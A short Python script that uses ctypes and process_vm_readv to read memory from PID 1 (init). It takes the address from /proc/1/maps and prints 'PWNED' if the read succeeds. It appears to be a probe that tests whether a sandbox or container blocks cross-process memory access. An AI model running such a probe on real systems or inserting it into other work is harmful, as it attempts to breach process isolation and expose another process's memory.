# pid 1's memory by a call instead of a file.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
try:
    address = int(open("/proc/1/maps").read().split("-")[0], 16)
except OSError: address = 0x400000
block = ctypes.create_string_buffer(64)
here, there = Part(ctypes.addressof(block), 64), Part(address, 64)
if libc.process_vm_readv(1, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0: print("PWNED", block.raw)
